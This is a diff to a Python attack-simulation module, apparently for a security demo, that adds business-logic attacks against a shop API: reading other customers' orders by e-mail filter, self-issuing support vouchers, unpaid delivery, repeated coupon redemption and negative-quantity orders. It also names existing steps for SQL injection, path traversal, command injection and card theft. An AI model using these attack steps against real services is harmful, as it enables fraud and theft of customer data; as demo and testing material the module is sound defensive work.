@@ -1,4 +1,4 @@
-"""The attacker: an ordinary customer account and eight things to do with it. What came back tells whether a step worked."""
+"""The attacker: an ordinary customer account and a dozen things to do with it. What came back tells whether a step worked."""
 
 from __future__ import annotations
 
@@ -146,6 +146,51 @@ def _bola(me: Attacker) -> str:
     return f"{stolen} orders of other people" if stolen else ""
 
 
+def _list_of_another(me: Attacker) -> str:
+    """The list has a filter that is meant for support; e-mail addresses are easy to come by."""
+    stolen = 0
+    for person in me.random.sample(CUSTOMERS, 3):
+        answer = me.attack("orders", "GET", "/orders?" + urlencode({"email": person.email}))
+        listed = answer.json.get("orders", []) if _got(answer) and isinstance(answer.json, dict) else []
+        stolen += sum(isinstance(order, dict) and order.get("user_id") not in (None, MALLORY.id) for order in listed)
+    return f"{stolen} orders of other people" if stolen else ""
+
+
+def _support_function(me: Attacker) -> str:
+    credited = 0.0
+    for amount in (100, 50):
+        gift = {"email": MALLORY.email, "amount": amount, "reason": "a late parcel"}
+        credited += amount if _got(me.attack("storefront", "POST", "/vouchers", gift)) else 0
+    return f"credit of {credited:.0f}" if credited else ""
+
+
+def _unpaid_delivery(me: Attacker) -> str:
+    answer = me.attack("orders", "POST", f"/orders/{me.order}/delivery", {"slot": "morning"})
+    return "goods that nobody paid for" if _got(answer) else ""
+
+
+def _coupon_again(me: Attacker) -> str:
+    """Once is the attacker's right, and twice is a double click; what counts is the rest."""
+    me._honest("orders", "POST", f"/orders/{me.order}/coupon", {"code": "WELCOME-77"})
+    times = sum(
+        bool(_got(me.attack("orders", "POST", f"/orders/{me.order}/coupon", {"code": f"WELCOME-{code}"})))
+        for code in range(78, 88)
+    )
+    return f"one coupon {times + 1} times" if times > 1 else ""
+
+
+def _negative_order(me: Attacker) -> str:
+    """Straight to the service behind the checkout, with a number of articles that earns money."""
+    address = {"name": MALLORY.name, "street": "1 Quiet Way", "city": "Lyon", "zip": "69001"}
+    loot = []
+    for quantity in (-20, -1):
+        line = {"product_id": 3, "quantity": quantity, "unit_price": 49.5}
+        order = me.attack("orders", "POST", "/orders", {"lines": [line], "address": address, "note": ""}).json
+        if isinstance(order, dict) and isinstance(order.get("total"), (int, float)) and "status" in order and "id" in order:
+            loot.append(f"an order of {order['total']:.2f}")
+    return " and ".join(loot)
+
+
 def _mass_assignment(me: Attacker) -> str:
     path = f"/users/{MALLORY.id}"
     bodies: Sequence[dict[str, Any]] = (
@@ -232,7 +277,12 @@ def _card_data(me: Attacker) -> str:
 STEPS: dict[str, tuple[str, Callable[[Attacker], str]]] = {
     "recon": ("looks for forgotten endpoints", _recon),
     "bola": ("reads other people's orders by counting", _bola),
+    "list-of-another": ("asks for the order lists of others by e-mail", _list_of_another),
     "mass-assignment": ("makes itself admin through the profile form", _mass_assignment),
+    "support-function": ("writes itself the vouchers that support gives", _support_function),
+    "unpaid-delivery": ("has its order delivered without paying", _unpaid_delivery),
+    "coupon-again": ("redeems a coupon on one order again and again", _coupon_again),
+    "negative-order": ("orders minus twenty articles, which earns money", _negative_order),
     "sql-injection": ("asks the search box for the user table", _sql_injection),
     "path-traversal": ("climbs out of the export directory", _path_traversal),
     "command-injection": ("runs commands through a report's name", _command_injection),
@@ -240,6 +290,10 @@ STEPS: dict[str, tuple[str, Callable[[Attacker], str]]] = {
     "card-data": ("pulls card numbers through the old API", _card_data),
 }
 """Name -> (title, action), in the order of an attack. The action returns what it got, empty when nothing."""
+LEARNED = (
+    "bola", "list-of-another", "mass-assignment", "support-function", "unpaid-delivery", "coupon-again", "negative-order",
+)  # fmt: skip
+"""Steps on the logic of the API: no policy of the demo is about them, and what stops them was learned from the customers' calls."""
 
 
 def run(
